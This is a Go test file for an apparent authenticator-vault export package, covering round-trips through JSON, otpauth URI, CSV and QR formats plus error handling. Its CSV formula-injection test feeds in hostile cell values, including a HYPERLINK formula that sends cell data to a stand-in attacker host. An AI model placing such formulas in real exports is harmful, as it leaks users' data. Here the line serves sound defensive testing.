package portable

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"image/color"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	pquerna "github.com/pquerna/otp"
	"pgregory.net/rapid"

	"github.com/avouch-dev/avouch/internal/otp"
	"github.com/avouch-dev/avouch/internal/secret"
)

var inClear = Protection{Clear: true}

// drawKept draws an entry of any kind, with all that can be of it, as a vault keeps it.
func drawKept(t *rapid.T) Entry {
	text := rapid.StringOfN(rapid.RuneFrom([]rune("aZ0 :?#&=+%/\\é漢😀@-~\"'<>,;|\u2028")), 0, 20, -1)
	e := drawEntry(t)
	switch rapid.IntRange(0, 4).Draw(t, "other kind") {
	case 0:
		e.Kind, e.Key, e.Scheme, e.Counter = Secret, secret.Own([]byte(rapid.StringN(1, 50, -1).Draw(t, "text"))), otp.Scheme{}, 0
	case 1:
		e.Kind, e.Key, e.Scheme, e.Counter = Codes, secret.Bytes{}, otp.Scheme{}, 0
		for range rapid.IntRange(1, 5).Draw(t, "codes") {
			e.Codes = append(e.Codes, Code{secret.Text(rapid.StringMatching(`[a-z0-9é"\\<-]{1,20}`).Draw(t, "code")), rapid.Bool().Draw(t, "used")})
		}
	}
	e.Title, e.Folder, e.Icon = text.Draw(t, "title"), text.Draw(t, "folder"), text.Draw(t, "icon")
	e.Tags = rapid.SliceOfN(text, 0, 4).Draw(t, "tags")
	e.Notes = rapid.OneOf(text, rapid.String()).Draw(t, "notes")
	if err := e.check(); err != nil {
		t.Fatal(err)
	}
	return e
}

func TestWritten(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		entries := rapid.SliceOfN(rapid.Custom(drawKept), 1, 8).Draw(t, "entries")
		for _, f := range Written() {
			var want []plain
			var held []Entry
			for _, e := range entries {
				if fit, err := e.in(f); err == nil {
					held = append(held, e)
					p := shown(fit)
					switch f {
					case FormatURI:
						p.Title, p.Icon, p.Folder, p.Tags, p.Notes = "", "", "", "", ""
					case FormatCSV: // whose lines end in one way, and whose cells have no blanks around them
						p.Title, p.Icon, p.Notes = "", "", strings.TrimSpace(strings.ReplaceAll(p.Notes, "\r\n", "\n"))
					}
					want = append(want, p)
				}
			}
			if data, err := Write(f, entries, inClear); len(held) < len(entries) && (!errors.Is(err, ErrWrite) || data != nil) {
				t.Fatalf("%s of what it cannot hold: %v", f, err)
			}
			if len(held) == 0 {
				continue
			}
			data, err := Write(f, held, inClear)
			if err != nil {
				t.Fatalf("%s: %v", f, err)
			}
			if g := Guess(data); g != f {
				t.Fatalf("%s is taken for %q", f, g)
			}
			r, err := Read(context.Background(), f, data, secret.String{})
			if err != nil || len(r.Faults) > 0 {
				t.Fatalf("%s: %v, %v\n%s", f, r.Faults, err, data)
			}
			if f == FormatCSV {
				for i := range r.Entries { // a quoted cell keeps its blanks
					r.Entries[i].Notes = strings.TrimSpace(r.Entries[i].Notes)
				}
			}
			if d := cmp.Diff(want, all(r)); d != "" {
				t.Fatalf("%s: %s\n%s", f, d, data)
			}
		}
	})
}

// TestWrittenForOthers: another library reads the addresses, and those that are drawn by another.
func TestWrittenForOthers(t *testing.T) {
	t.Parallel()
	for _, name := range [][2]string{{"Example", "alice@google.com"}, {"Big Corp & Sons", "a+b=c"}, {"100% #1?", "x/y"}, {"Ünïcode 漢", "é\"'<>"}, {"", "alone"}, {"Only", ""}} {
		e := entryOf(t, "otpauth://totp/x?secret="+hello+"&algorithm=SHA256&digits=8&period=60")
		e.Issuer, e.Account = name[0], name[1]
		data, err := Write(FormatURI, []Entry{e}, inClear)
		if err != nil {
			t.Fatal(err)
		}
		text := strings.TrimSpace(string(data))
		k, err := pquerna.NewKeyFromURL(text)
		if err != nil || k.Issuer() != e.Issuer || k.AccountName() != e.Account || k.Secret() != hello || k.Period() != 60 || k.Digits() != pquerna.DigitsEight || k.Algorithm() != pquerna.AlgorithmSHA256 {
			t.Errorf("%s: %q %q %q, %v", text, k.Issuer(), k.AccountName(), k.Secret(), err)
		}
		r, err := Read(context.Background(), FormatQR, onPNG(t, paper(420, 420, color.White, code(t, text, 340))), secret.String{})
		if err != nil || len(r.Entries) != 1 || !cmp.Equal(shown(r.Entries[0]), shown(e)) {
			t.Errorf("drawn: %v, %v", all(r), err)
		}
	}
}

// TestHolds: where a format cannot hold one of the entries nothing is written, and which one it is is said.
func TestHolds(t *testing.T) {
	t.Parallel()
	seed := entryOf(t, "otpauth://totp/A:b?secret="+hello)
	codes := Entry{Kind: Codes, Title: "Backup", Codes: []Code{{secret.Text("code-one"), false}}}
	text := Entry{Kind: Secret, Title: "Token", Key: secret.Own([]byte("tok-one"))}
	tagged := seed
	tagged.Tags = []string{"a,b"}
	for f, want := range map[Format]string{FormatAvouch: "", FormatURI: "entry 2 (Backup): the format uri has no entries of the kind codes", FormatCSV: "entry 2 (Backup): the format csv has no"} {
		data, err := Write(f, []Entry{seed, codes, text, tagged}, inClear)
		if (err == nil) != (want == "") || err != nil && (!errors.Is(err, ErrWrite) || !strings.Contains(err.Error(), want) || data != nil) {
			t.Errorf("%s: %v", f, err)
		}
		told := fmt.Sprint(err)
		for k, e := range []Entry{seed, codes, text, tagged} {
			bad := Holds(f, e)
			if is := f == FormatAvouch || k == 0 || k == 3 && f == FormatURI; (bad == nil) != is {
				t.Errorf("%s, entry %d: %v", f, k+1, bad)
			}
			told += fmt.Sprint(bad)
		}
		if strings.Contains(told, "code-one") || strings.Contains(told, "tok-one") {
			t.Errorf("%s tells %s", f, told)
		}
		if has := bytes.Contains(data, []byte("code-one")) && bytes.Contains(data, []byte("tok-one")); has != (f == FormatAvouch) {
			t.Errorf("%s: %s", f, data)
		}
	}
	bad := []Entry{
		{Kind: otp.TOTP, Title: "x", Scheme: otp.Usual()}, {Kind: Codes, Title: "x"}, {Kind: Secret, Title: "x"}, {Kind: Codes, Title: "x", Codes: codes.Codes, Key: text.Key},
		{Kind: Secret, Title: "x", Key: text.Key, Codes: codes.Codes}, {Kind: Secret, Key: text.Key}, {Kind: Secret, Title: "x", Key: secret.Own([]byte("\xff"))}, {Kind: "note", Title: "x", Key: text.Key},
		{Kind: Codes, Title: "x", Codes: []Code{{secret.Text("two\nlines"), false}}}, {Kind: Secret, Title: "x", Key: text.Key, Scheme: otp.Usual()}, {Kind: Codes, Title: "x", Codes: make([]Code, mostCodes+1)},
		{Kind: Secret, Title: "x", Key: text.Key, Tags: make([]string, 1), Notes: strings.Repeat("x", mostNotes+1)}, {Kind: Secret, Title: "x", Key: text.Key, Tags: []string{strings.Repeat("x", mostTag+1)}},
	}
	for _, e := range bad {
		if data, err := Write(FormatAvouch, []Entry{e, seed}, inClear); !errors.Is(err, ErrWrite) || data != nil {
			t.Errorf("%+v: %v", shown(e), err)
		}
	}
	for name, err := range map[string]error{"aegis": second(Write(FormatAegis, []Entry{seed}, inClear)), "nothing": second(Write(FormatAvouch, nil, inClear)), "too many": second(Write(FormatURI, make([]Entry, 1), inClear))} {
		if !errors.Is(err, ErrWrite) {
			t.Errorf("%s: %v", name, err)
		}
	}
	long := seed
	long.Notes = strings.Repeat("x", mostNotes)
	many := make([]Entry, MostBytes/mostNotes)
	for i := range many {
		many[i] = long
	}
	if data, err := Write(FormatAvouch, many, inClear); !errors.Is(err, ErrWrite) || len(data) > 0 {
		t.Errorf("too large: %d bytes, %v", len(data), err)
	}
}

func second(_ []byte, err error) error { return err }

// TestFormulas: an entry's name must do nothing in a spreadsheet.
func TestFormulas(t *testing.T) {
	t.Parallel()
	for _, text := range []string{`=HYPERLINK("https://evil.example/?"&C2)`, "+1+1", "-2", "@SUM(1)", "'=1", "''@x", "＝1", "|x", "%x", "plain", "'plain", "a=b", "it's"} {
		e := entryOf(t, "otpauth://totp/x?secret="+hello)
		e.Issuer, e.Account, e.Folder, e.Notes, e.Tags = text, text, text, "\t"+text, []string{text}
		if strings.ContainsAny(text, dividers) {
			e.Tags = nil
		}
		data, err := Write(FormatCSV, []Entry{e}, inClear)
		if err != nil {
			t.Fatal(err)
		}
		lines, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
		if err != nil || len(lines) != 2 {
			t.Fatal(lines, err)
		}
		for _, cell := range lines[1] {
			if c := strings.TrimSpace(cell); c != "" && strings.ContainsAny(c[:1], "=+-@|%") || strings.HasPrefix(c, "＝") {
				t.Errorf("%q is written as %q", text, cell)
			}
		}
		r, err := Read(context.Background(), FormatCSV, data, secret.String{})
		if err != nil || len(r.Entries) != 1 || r.Entries[0].Issuer != text || r.Entries[0].Account != text || r.Entries[0].Folder != text || strings.TrimSpace(r.Entries[0].Notes) != text {
			t.Errorf("%q is read as %+v, %v", text, all(r), err)
		}
	}
}

func TestAvouchFaults(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		`{"kind":"totp","issuer":"A","secret":"` + hello + `","algorithm":"SHA1","digits":6,"period":30,"colour":"red"}`: "fields",
		`{"kind":"totp","issuer":"A","secret":123456789,"algorithm":"SHA1","digits":6,"period":30}`:                      "fields",
		`{"kind":"totp","issuer":"A","secret":"` + hello + `","algorithm":"SHA1","digits":6}`:                            "no such scheme",
		`{"kind":"totp","issuer":"A","secret":"1"}`:                                                                      "base32",
		`{"kind":"totp","issuer":"A","text":"abc"}`:                                                                      "a text is",
		`{"kind":"secret","name":"A","secret":"` + hello + `"}`:                                                          "a text is",
		`{"kind":"secret","name":"A","text":"x","secret":"` + hello + `"}`:                                               "seed",
		`{"kind":"codes","name":"A","codes":[]}`:                                                                         "recovery codes",
		`{"kind":"codes","name":"A","codes":[{"code":""}]}`:                                                              "recovery code",
		`{"kind":"codes","codes":[{"code":"a"}]}`:                                                                        "no name",
		`7`: "fields",
	} {
		r, err := Read(context.Background(), FormatAvouch, []byte(`{"format":"avouch-vault/1","entries":[`+text+`]}`), secret.String{})
		if err != nil || len(r.Faults) != 1 || len(r.Entries) > 0 || !strings.Contains(r.Faults[0].Why, want) || strings.Contains(r.Faults[0].Error(), "123456789") {
			t.Errorf("%s: %v, %v, want %q", text, r.Faults, err, want)
		}
	}
	for _, text := range []string{"", "{}", "[]", `{"format":"avouch-vault/2","entries":[]}`, `{"format":"avouch-vault/1"}`, `{"format":"avouch-vault/1","entries":[],"more":1}`, `{"format":"avouch-vault/1","entries":[]} x`, `{"format":"avouch-vault/1","entries":[]}`} {
		if _, err := Read(context.Background(), FormatAvouch, []byte(text), secret.String{}); !errors.Is(err, ErrFormat) {
			t.Errorf("%s: %v", text, err)
		}
	}
}

func FuzzAvouch(f *testing.F) {
	f.Add([]byte(`{"format":"avouch-vault/1","entries":[{"kind":"totp","issuer":"A","secret":"` + hello + `","algorithm":"SHA1","digits":6,"period":30,"tags":["a"]},{"kind":"codes","name":"B","codes":[{"code":"x","used":true}]},{"kind":"secret","name":"C","text":"y"}]}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		r, err := Read(context.Background(), FormatAvouch, data, secret.String{})
		if err != nil || len(r.Entries) == 0 {
			return
		}
		again, err := Write(FormatAvouch, r.Entries, inClear)
		if err != nil {
			t.Fatal(err)
		}
		s, err := Read(context.Background(), FormatAvouch, again, secret.String{})
		if err != nil || len(s.Faults) > 0 || !cmp.Equal(all(r), all(s)) {
			t.Errorf("%s\nis read as %+v, %v, %v", again, all(s), s.Faults, err)
		}
	})
}
